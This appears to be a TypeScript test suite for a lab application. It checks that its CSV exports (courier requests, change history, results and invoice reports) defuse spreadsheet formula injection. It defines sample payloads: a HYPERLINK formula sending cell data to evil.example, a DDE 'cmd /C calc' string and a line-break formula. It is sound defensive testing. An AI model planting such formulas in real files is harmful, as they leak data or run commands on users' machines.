/**
 * Every CSV the lab hands out, opened the way a spreadsheet in a `;` locale (German Excel) or a
 * tab-separated reading opens it: text a user or the lab typed with a formula after a `;`, a
 * comma, a tab or a line break must not come out as a cell that runs (lib/csv.ts, one rule for
 * all): the courier requests CSV, the change history CSV, the e-mailed results export (a whole
 * history and a single batch) and the e-mailed invoice report. The standard RFC 4180 reading
 * still gives the text back.
 */
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeProvider, testProvider, type TestProvider } from '../helpers/provider.ts';
import { excelCells, rfc4180, runsAsFormula, withoutInertMarks } from '../helpers/spreadsheet.ts';

const EVIL = 'Block 7;=HYPERLINK("https://evil.example/?x="&A1,"open")';
const EVIL_TAB = 'Cooler\t@SUM(1+1)*cmd|\' /C calc\'!A0';
const EVIL_LINE = 'Ring twice, -2+3\r\n+SUM(1,2)';

let p: TestProvider;
let A: number;
const tokens: Record<string, string> = {};

beforeAll(async () => {
  p = await testProvider({ seed: true, now: '2026-11-21T17:00:00Z' });
  A = (await p.db.selectFrom('clients').select('id').where('code', '=', 'C10234').executeTakeFirstOrThrow()).id;
  for (const [k, email] of Object.entries({ full: 'full@example.com', owner: 'owner@example.com', admin: 'admin@example.com' })) tokens[k] = await p.tokenFor(email);
}, 120_000);
afterAll(() => closeProvider(p));

/** The file read the `;`/tab way: no cell runs as a formula; read the RFC 4180 way: `expected` is there, word for word. */
function expectInert(csv: string, expected: string[]) {
  const cells = excelCells(csv);
  const running = cells.filter(runsAsFormula);
  expect(running, 'cells a ";" spreadsheet would run').toEqual([]);
  const fields = rfc4180(csv).flat().map(withoutInertMarks);
  for (const text of expected) expect(fields.some((f) => f.includes(text)), text).toBe(true);
}

async function text(path: string, token: string) {
  const res = await p.app.request(path, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer()).toString('utf8');
}

describe('CSV files read by a ";" spreadsheet', () => {
  it('the courier requests CSV', async () => {
    const address = (await p.db.selectFrom('addresses').select('id').where('clientId', '=', A).where('street_1', 'not like', 'PO Box%').executeTakeFirstOrThrow()).id;
    for (const instructions of [EVIL, EVIL_TAB, EVIL_LINE]) {
      const r = await p.call('POST', '/courier_requests.json', { token: tokens.full, body: { clientId: A, addressId: address, address: 'x', phoneNumber: '707-555-0134', instructions } });
      expect(r.status).toBe(201);
    }
    expectInert(await text(`/clients/${A}/courier_requests/export_to_csv`, tokens.full), [EVIL, EVIL_TAB, EVIL_LINE]);
  });

  it('the change history CSV', async () => {
    await p.db.insertInto('client_changes').values({
      clientId: A, userId: null, actorEmail: 'owner@example.com', kind: 'role', action: 'changed', subject: EVIL,
      before: JSON.stringify({ role: EVIL_TAB }), after: JSON.stringify({ role: 'Full User', note: EVIL_LINE }), createdAt: '2026-11-21T16:00:00.000Z',
    }).execute();
    expectInert(await text(`/clients/${A}/history.csv`, tokens.owner), [EVIL, `role: ${EVIL_TAB}`, EVIL_LINE]);
  });

  it('the e-mailed results export, a whole history and a single batch', async () => {
    const sample = await p.db
      .selectFrom('samples').innerJoin('results', 'results.sampleId', 'samples.id')
      .select(['samples.id', 'results.batchId']).where('samples.clientId', '=', A).where('results.loggedAt', '>=', '2026-10-01').orderBy('samples.id').executeTakeFirstOrThrow();
    await p.db.updateTable('samples').set({ description: EVIL }).where('id', '=', sample.id).execute();
    await p.db.updateTable('results').set({ testMethod: EVIL_LINE, units: EVIL_TAB }).where('sampleId', '=', sample.id).execute();
    const all = await p.call('GET', `/clients/${A}/results/export.json?startDate=2026-10-01&endDate=2026-11-21&length=5000`, { token: tokens.full });
    expect(all.status).toBe(200);
    expectInert(fs.readFileSync(p.outbox().at(-1)!.attachments[0].path, 'utf8'), [EVIL, EVIL_TAB, EVIL_LINE]);
    const batch = await p.call('GET', `/clients/${A}/batches/export.json?batch_id=${sample.batchId}`, { token: tokens.owner });
    expect(batch.status).toBe(200);
    expectInert(fs.readFileSync(p.outbox().at(-1)!.attachments[0].path, 'utf8'), [EVIL, EVIL_TAB, EVIL_LINE]);
  });

  it('the e-mailed invoice report', async () => {
    const invoice = await p.db.selectFrom('invoices').select(['id', 'invoiceNumber']).where('clientId', '=', A).orderBy('id').executeTakeFirstOrThrow();
    await p.db.updateTable('invoices').set({ orderNumber: EVIL }).where('id', '=', invoice.id).execute();
    const r = await p.call('POST', '/finance_reports.json', { token: tokens.admin, body: { clientId: A, recipients: ['accounts@winery.example'], invoices: [invoice.invoiceNumber] } });
    expect(r.status).toBe(201);
    const csv = p.outbox().at(-1)!.attachments.find((a) => a.contentType === 'text/csv')!;
    expectInert(fs.readFileSync(csv.path, 'utf8'), [EVIL]);
  });
});
